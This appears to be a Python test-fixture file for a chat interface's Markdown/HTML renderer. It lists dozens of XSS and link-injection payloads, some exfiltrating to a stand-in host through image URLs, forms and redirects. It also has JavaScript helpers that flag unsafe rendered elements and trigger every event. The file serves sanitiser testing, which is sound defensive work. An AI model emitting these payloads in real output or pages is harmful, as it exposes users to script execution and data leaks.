"""What a model might be talked into writing: each tries to run something, to draw what is not ours, or to call home."""

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(2)</script></svg>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object><embed src='javascript:alert(2)'>",
    "<style>* { background: url(https://evil.example/x) }</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><input name=q><button>Go</button></form>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(2)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<a href='javascript:alert(1)'>HTML link</a>",
    "<div style='position:fixed;inset:0'>over everything</div>",
    "<p id=question name=form>clobbers</p><form id=chat></form>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[x](javascript:alert(1))",
    "[x](javascript:alert`1`)",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](blob:http://127.0.0.1/x)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    "[x](/signout)",
    "[x](?thread=1#x)",
    "[x](https://user:password@evil.example/)",
    '[x](https://example.org "onmouseover=alert(1)")',
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[r]\n\n[r]: <data:text/html,x> 'title'",
    "![x](https://evil.example/?q=secret)",
    "![x](javascript:alert(1))",
    "![x][p]\n\n[p]: https://evil.example/p.png",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "<javascript:alert(1)>",
    '<https://example.org/" onclick=alert(1)>',
    'https://example.org/"onmouseover=alert(1)//',
    "```html\n<script>alert(1)</script>\n```",
    "```<img/src=x/onerror=alert(1)>\ncode\n```",
    "~~~js\n</code></pre><script>alert(1)</script>\n~~~",
    "| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |\n| --- | --- |\n| <script>alert(1)</script> | b |",
    "- [x](javascript:alert(1))\n  > <svg onload=alert(1)>\n\n1. ![](https://evil.example/1)",
    "# <img src=x onerror=alert(1)> {onclick=alert(1)}",
    "`<script>alert(1)</script>` **<b onmouseover=alert(1)>bold</b>**",
    "\u202ejavascript:alert(1)\u202c <scr\u0000ipt>alert(1)</scr\u0000ipt>",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %>",
]  # fmt: skip
XSS_FILE_NAMES = ["<img src=x onerror=alert(1)>.txt", '"><script>alert(1)</script>.txt', "javascript:alert(1).txt"]

FIND_UNSAFE_ELEMENTS = r"""
() => {
  const ALLOWED = new Set([
    'A', 'BLOCKQUOTE', 'BR', 'BUTTON', 'CODE', 'DIV', 'EM', 'FIGCAPTION', 'FIGURE', 'H2', 'H3', 'H4', 'H5', 'H6', 'HR',
    'LI', 'OL', 'P', 'PRE', 'S', 'SPAN', 'STRONG', 'TABLE', 'TBODY', 'TD', 'TH', 'THEAD', 'TR', 'UL',
  ])
  const bad = []
  for (const element of document.querySelectorAll('.turn *, .probe *')) {
    if (!ALLOWED.has(element.nodeName)) bad.push(element.nodeName)
    for (const { name, value } of element.attributes) {
      if (/^on|^(style|id|name|srcdoc|action|formaction|src)$/.test(name)) bad.push(`${element.nodeName} ${name}`)
      if (name === 'href' && !/^(https?:\/\/[^@/]+(\/|$)|mailto:)/.test(value)) bad.push(`href ${value}`)
    }
  }
  return bad
}
"""
"""What is in a text that must not be there: an element, a handler, an address that is not absolute."""

CLICK_EVERYTHING = """
async () => {
  const stay = event => { if (event.target.closest?.('a[href^=http]')) event.preventDefault() }
  document.addEventListener('click', stay, true)
  for (const element of document.querySelectorAll('.turn *, .probe *')) {
    for (const type of ['mouseover', 'focus', 'toggle', 'error', 'load']) element.dispatchEvent(new Event(type))
    if (element.nodeName !== 'BUTTON') element.click?.()
  }
  await new Promise(done => setTimeout(done))
}
"""
"""Every click and event that a reader could cause; links to elsewhere are not followed."""
